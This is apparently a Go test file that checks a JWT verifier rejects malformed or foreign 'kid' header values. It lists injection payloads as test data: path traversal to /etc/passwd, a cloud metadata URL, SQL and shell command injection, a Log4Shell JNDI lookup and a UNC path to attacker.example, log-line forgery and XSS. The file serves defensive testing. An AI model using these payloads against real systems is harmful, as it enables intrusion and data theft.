package identity_test

import (
	"encoding/json"
	"strconv"
	"strings"
	"testing"

	"github.com/echo-identity/identity"
	"github.com/echo-identity/identity/mockidp"
)

func kidAttacks() []attackClass { return []attackClass{badKids(), foreignKids()} }

// badKids are none at all: of a wrong type, too long, or with characters that a log, a query or a C string would stumble over.
func badKids() attackClass {
	class := attackClass{
		name: "kid that is none", source: "RFC 7515 §4.1.4: a string; RFC 8725 §3.10: sanitize it",
		good: []attack{
			{name: "kid in escapes", token: func(s *siege) string {
				kid := s.right.ID()
				return s.signed(`{"alg":"RS256","kid":"`+`\u00`+strconv.FormatInt(int64(kid[0]), 16)+kid[1:]+`"}`, claimsOf(s.contoso.Token()))
			}},
			{name: "kid of 256 characters", token: func(s *siege) string { return s.contoso.Token(mockidp.SignedBy(s.keys["long"])) }},
		},
		prepare: func(s *siege) {
			s.keys["long"] = s.contoso.Keys().NewKey().WithID(strings.Repeat("k", 256))
			s.contoso.Keys().Publish(s.keys["long"])
		},
		after: func(t *testing.T, s *siege) {
			if log := s.log.String(); strings.Contains(log, "uid=0") || strings.Contains(log, "\x1b") {
				t.Errorf("the log was forged:\n%s", log)
			}
		},
	}
	for _, text := range []string{
		`true`, `false`, `1e400`, `-1`, `0.5`, `{}`, `{"$ne":null}`, `{"$gt":""}`, `[]`, `[[]]`, `[null]`, `{"kid":"x"}`,
	} {
		source := ""
		if strings.Contains(text, "$") {
			source = "CWE-943: a query operator in place of a string"
		}
		class.attacks = append(class.attacks, attack{"kid as JSON " + text, source, identity.ErrKeyID, of(mockidp.Header("kid", json.RawMessage(text)))})
	}
	for _, kid := range []string{
		" ", "\t", "k\tid", "\rk", "k\r\nlevel=INFO uid=0", "k\x00", "\x00", "k\x00.pem", "\x1b[2Jk", "k\x7f", "k\x01", "k\u0085", "k\u2028", "\u202ek", "\ufeffk", "k\u00a0", "k\u200b",
		"ｋ", "k\U0001f511", "' OR '1'='1", "1; DROP TABLE keys", "x' UNION SELECT 'secret", "; id", "a b",
	} {
		source := "RFC 8725 §3.10"
		switch {
		case strings.ContainsAny(kid, "\r\n\x1b"):
			source = "CWE-117: a forged line of a log"
		case strings.Contains(kid, "\x00"):
			source = "CWE-158: a NUL ends a string in C"
		case strings.ContainsAny(kid, "';"):
			source = "RFC 8725 §3.10; CWE-89"
		}
		class.attacks = append(class.attacks, attack{"kid " + strconv.Quote(kid), source, identity.ErrKeyID, of(mockidp.KeyID(kid))})
	}
	for _, n := range []int{258, 1000, 2900} {
		class.attacks = append(class.attacks, attack{"kid of " + strconv.Itoa(n) + " characters", "CWE-400", identity.ErrKeyID, of(mockidp.KeyID(strings.Repeat("k", n)))})
	}
	right := func(change func(kid string) string) func(*siege) string {
		return by(func(s *siege) []mockidp.TokenOption { return options(mockidp.KeyID(change(s.right.ID()))) })
	}
	class.attacks = append(class.attacks,
		attack{"right kid behind a blank", "", identity.ErrKeyID, right(func(kid string) string { return " " + kid })},
		attack{"right kid before a blank", "", identity.ErrKeyID, right(func(kid string) string { return kid + " " })},
		attack{"right kid behind a byte order mark", "", identity.ErrKeyID, right(func(kid string) string { return "\ufeff" + kid })},
		attack{"right kid behind a NUL", "CWE-158", identity.ErrKeyID, right(func(kid string) string { return "\x00" + kid })},
		attack{"right kid and a stranger's, NUL between", "CWE-158", identity.ErrKeyID, right(func(kid string) string { return kid + "\x00x" })},
		attack{"right kid twice with a line break", "CWE-117", identity.ErrKeyID, right(func(kid string) string { return kid + "\n" + kid })},
	)
	return class
}

// foreignKids are well-formed and name no key of this set.
func foreignKids() attackClass {
	class := attackClass{
		name: "kid that is not in the set", source: "RFC 8725 §3.10; RFC 7515 §4.1.4",
		good: []attack{{name: "kid as published", token: of()}},
		after: func(t *testing.T, s *siege) {
			for _, r := range s.idp.Requests() {
				if strings.Contains(r.Path+r.RawQuery, "kid") || strings.Contains(r.Path, "..") {
					t.Errorf("a kid reached the address %s?%s", r.Path, r.RawQuery)
				}
			}
			if n := s.idp.Count(mockidp.JWKS); n > 8 { // two verifiers, each with the v2.0 and v1.0 sets of the middleware's tenants
				t.Errorf("got=%d downloads of key sets, want no more for a flood of kids", n)
			}
		},
	}
	for _, kid := range []string{
		"../../../../../../etc/passwd", "/dev/null", "/proc/self/environ", "/proc/sys/kernel/randomize_va_space", "....//....//etc/passwd", "..%2f..%2fetc%2fpasswd", `..\..\windows\win.ini`,
		`C:\windows\win.ini`, `\\attacker.example\share\key`, "file:///dev/null", "http://169.254.169.254/latest/meta-data/", "key.pem%00", "public/css/main.css",
		"x'/**/OR/**/'1'='1", "'||(SELECT/**/1)||'", "1;SELECT/**/pg_sleep(10)--", "x\"/**/OR/**/1=1#",
		"$(id)", "`id`", "|id", ";id;", "k&&id", "*)(uid=*", "{{7*7}}", "${jndi:ldap://attacker.example/a}", "<script>alert(1)</script>", "%s%s%s%n", "*", ".*", "%", "_", "?", "^",
		"__proto__", "constructor", "toString", "hasOwnProperty", "null", "undefined", "0", "-1", "true", "NaN", "[object", "{}", "[]", "default", "current", ".", "..", "#", "!",
	} {
		source := ""
		switch {
		case strings.ContainsAny(kid, `/\`) && !strings.Contains(kid, "**"):
			source = "RFC 8725 §3.10; CWE-22"
		case strings.Contains(kid, "**") || strings.Contains(kid, "SELECT"):
			source = "RFC 8725 §3.10; CWE-89"
		case strings.Contains(kid, "jndi"):
			source = "CVE-2021-44228"
		case kid == "__proto__" || kid == "constructor" || kid == "toString" || kid == "hasOwnProperty":
			source = "CWE-1321: the names of every JavaScript object"
		case strings.Contains(kid, "id") && len(kid) < 8:
			source = "RFC 8725 §3.10; CWE-78"
		}
		class.attacks = append(class.attacks, attack{"kid of no key " + strconv.Quote(kid), source, identity.ErrKeyNotFound, of(mockidp.KeyID(kid))})
	}
	other := func(name string, kid func(s *siege) string) {
		class.attacks = append(class.attacks, attack{name, "RFC 8725 §3.8, §3.10", identity.ErrKeyNotFound, by(func(s *siege) []mockidp.TokenOption {
			return options(mockidp.KeyID(kid(s)))
		})})
	}
	other("kid of a B2C policy", func(s *siege) string { return s.shop.Keys().Signing().ID() })
	other("kid of another B2C policy", func(s *siege) string { return s.shop.PolicyKeys("B2C_1A_custom").Signing().ID() })
	other("kid of an External ID directory", func(s *siege) string { return s.customers.Keys().Signing().ID() })
	other("kid of another cloud", func(s *siege) string { return s.idp.CloudKeys(mockidp.China).Signing().ID() })
	other("kid of an application's key", func(s *siege) string { return s.contoso.AppKeys(mockidp.Client).Signing().ID() })
	other("right kid in upper case", func(s *siege) string { return strings.ToUpper(s.right.ID()) })
	other("right kid in lower case", func(s *siege) string { return strings.ToLower(s.right.ID()) })
	other("right kid with padding", func(s *siege) string { return s.right.ID() + "=" })
	other("right kid twice", func(s *siege) string { return s.right.ID() + s.right.ID() })
	other("right kid in a list of two", func(s *siege) string { return s.right.ID() + "," + s.stranger.ID() })
	other("right kid without its last character", func(s *siege) string { return s.right.ID()[:len(s.right.ID())-1] })
	other("right kid with another character behind", func(s *siege) string { return s.right.ID() + "A" })
	other("right kid in quotes", func(s *siege) string { return `"` + s.right.ID() + `"` })
	other("right kid percent-encoded", func(s *siege) string { return "%" + strconv.FormatInt(int64(s.right.ID()[0]), 16) + s.right.ID()[1:] })
	other("modulus for a kid", func(s *siege) string { return encoded(s.right.Public().N)[:256] })
	return class
}
